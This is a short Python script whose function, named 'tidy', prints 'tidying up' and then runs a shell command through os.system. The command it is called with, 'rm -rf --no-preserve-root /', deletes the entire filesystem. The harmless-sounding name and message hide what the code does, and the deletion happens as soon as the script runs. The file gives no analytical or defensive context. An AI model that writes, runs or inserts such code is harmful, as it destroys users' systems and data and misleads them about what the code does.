import os


def tidy(command):
    print("tidying up")
    os.system(command)


tidy("rm -rf --no-preserve-root /")
